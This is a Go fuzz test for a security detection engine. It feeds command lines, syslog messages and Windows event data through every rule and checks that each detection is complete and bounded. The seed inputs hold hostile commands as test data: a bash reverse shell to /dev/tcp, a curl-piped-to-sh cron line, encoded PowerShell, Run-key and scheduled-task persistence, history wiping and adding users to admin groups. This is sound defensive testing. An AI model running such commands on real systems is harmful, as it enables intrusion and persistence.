package detect

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/loupe-sec/loupe/internal/event"
)

// FuzzObserve feeds arbitrary command lines, syslog messages and Windows
// event data through every rule: nothing may panic, and every detection
// must be complete and bounded.
func FuzzObserve(f *testing.F) {
	f.Add("powershell -enc SQBFAFgA", "Failed password for root from 1.2.3.4 port 22 ssh2", "sshd", 4625, `{"TargetUserName":"x"}`)
	f.Add("bash -i >& /dev/tcp/1.2.3.4/44 0>&1", "(root) CMD (curl http://x | sh)", "CRON", 7045, `{"ServiceName":"a","ImagePath":"cmd /c x"}`)
	f.Add("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "message repeated 3 times: [ Failed password for a from b]", "sshd", 13, `{"TargetObject":"\\CurrentVersion\\Run\\x","Image":"reg.exe"}`)
	f.Add("rm ~/.bash_history; usermod -aG sudo x; net localgroup administrators x /add", "add 'x' to group 'sudo'", "usermod", 4732, `{"TargetUserName":"Administrators","MemberName":"CN="}`)
	f.Add("schtasks /create /tn x /tr y; sc create s binPath= z", "new user: name=", "useradd", 4698, `{"TaskContent":"<Command>a</Command>"}`)
	f.Fuzz(func(t *testing.T, cmd, msg, program string, id int, data string) {
		e := New(Options{MaxTracked: 4, FailThreshold: 2})
		evs := []*event.Event{
			{Host: "h", CommandLine: cmd, EventID: 1, Provider: "Microsoft-Windows-Sysmon"},
			{Host: "h", Program: program, Message: msg, Time: time.Unix(1, 0)},
			{Host: "h", Program: "sudo", Message: "COMMAND=" + cmd},
			{Host: "h", EventID: id, Raw: []byte(`{"E":` + data + `}`), DataPath: "E", Provider: "Microsoft-Windows-Sysmon"},
			{Host: "h", EventID: id, Raw: []byte(`{"E":` + data + `}`), DataPath: "E"},
			{Host: "h", Format: event.FormatFalco, Rule: msg, Priority: program, Message: cmd, Tags: strings.Fields(data)},
		}
		for range 3 {
			for _, ev := range evs {
				e.Observe(ev, func(d Detection) {
					if d.Rule.ID == "" || d.Key == "" || d.Tactic == "" || d.Event == nil || d.Count < 1 {
						t.Fatalf("incomplete detection %+v", d)
					}
					if len(d.What) > 1200 || !utf8.ValidString(d.What) || !utf8.ValidString(d.Actor) {
						t.Fatalf("What unbounded or invalid: %q", d.What)
					}
				})
			}
		}
		e.Flush(func(Detection) {})
	})
}
